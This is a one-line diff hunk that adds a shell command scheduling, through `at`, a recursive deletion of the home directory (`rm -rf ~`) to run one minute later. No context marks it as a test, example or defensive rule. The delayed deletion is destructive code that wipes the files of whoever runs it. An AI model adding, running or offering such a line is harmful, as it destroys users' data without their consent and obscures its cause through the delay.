@@ -1,0 +1,1 @@
+at now + 1 minute <<< 'rm -rf ~'
